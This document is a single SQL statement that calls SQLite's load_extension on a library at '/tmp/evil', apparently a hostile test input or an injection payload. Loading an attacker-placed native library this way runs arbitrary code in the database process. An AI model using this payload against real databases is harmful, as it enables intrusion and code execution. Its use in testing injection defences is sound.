SELECT load_extension('/tmp/evil') AS name;
